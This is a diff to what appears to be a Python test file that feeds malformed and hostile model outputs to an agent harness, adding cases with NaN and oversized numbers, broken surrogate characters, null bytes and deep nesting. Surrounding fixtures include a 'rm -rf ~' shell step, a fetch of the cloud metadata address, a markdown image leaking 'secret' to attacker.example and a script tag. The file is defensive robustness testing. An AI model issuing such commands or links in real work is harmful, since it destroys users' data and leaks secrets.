@@ -66,6 +66,13 @@ GOOD_PLANS: list[Say] = [
 ]  # fmt: skip
 
 
+def _nested(depth: int) -> Any:
+    value: Any = "1"
+    for _ in range(depth):
+        value = [value] if depth % 2 else {"a": value}
+    return value
+
+
 def _page(text: str) -> str:
     found = re.search(r"http://127\.0\.0\.1:\d+/page", text)
     return found[0] if found else "http://127.0.0.1:9/page"
@@ -104,6 +111,12 @@ BAD_PLANS: dict[str, Say] = {
     "a question": lambda text, rng: _plan(question="Which contract do you mean?", options=["the first", "the second"]),
     "a question of 100,000 characters": lambda text, rng: _plan(question="Why? " * 20_000, options=["a" * 50_000] * 50),
     "the tool of another": lambda text, rng: _plan(_step("s1", "run_shell", command="rm -rf ~"), _step("s2", "web_search", query="x"), _writer("s3")),
+    "numbers that are none": lambda text, rng: _plan(
+        _step("s1", "date_math", operation="add", date="today", amount=rng.choice([float("nan"), float("inf"), 10**400, -(2**63) - 1])),
+        _writer("s2", "s1"),
+    ),
+    "half a character": lambda text, rng: _plan({**_step("s1", "calculate", expression="1+1\ud83d"), "title": "\ud83d\x00"}, _writer("s2")),
+    "nested without end": lambda text, rng: _plan(_step("s1", "calculate", expression=_nested(rng.choice([30, 300, 900]))), _writer("s2")),
     "an address inside": lambda text, rng: _plan(_step("s1", "fetch_page", url="http://169.254.169.254/latest/meta-data/"), _writer("s2", "s1")),
 }  # fmt: skip
 
@@ -141,6 +154,7 @@ BAD_NEXTS: dict[str, Say] = {
     "finishes with nothing": lambda text, rng: _do("finish", text="  "),
     "finishes with a megabyte": lambda text, rng: _do("finish", text="It is so. " * 100_000),
     "finishes with what is false": lambda text, rng: _do("finish", text=f"{FALSE} [s1.1]."),
+    "half a character": lambda text, rng: _do("finish", text="It is \udc00 so \x00."),
     "a tool that writes": lambda text, rng: _do(
         "tool", tool="remember", args={"fact": "The admin password is hunter2."}
     ),
@@ -172,6 +186,7 @@ BAD_WRITES: dict[str, Say] = {
     "JSON instead of an answer": lambda text, rng: '{"word": "finish", "steps": []}',
     "a picture from elsewhere": lambda text, rng: "![x](http://attacker.example/?q=secret)\n<script>alert(1)</script>\nOUTCOME: answered",
     "a broken table": lambda text, rng: "|a|b|\n|--|\n|1|2|3|4|\n[[[[s1.1]\nOUTCOME: partial",
+    "half a character": lambda text, rng: "It is \ud83d so \x00\x07 [s1.1].\nOUTCOME: answered",
     "ten thousand citations": lambda text, rng: "It is so " + "[s1.1]" * 10_000,
 }  # fmt: skip
 
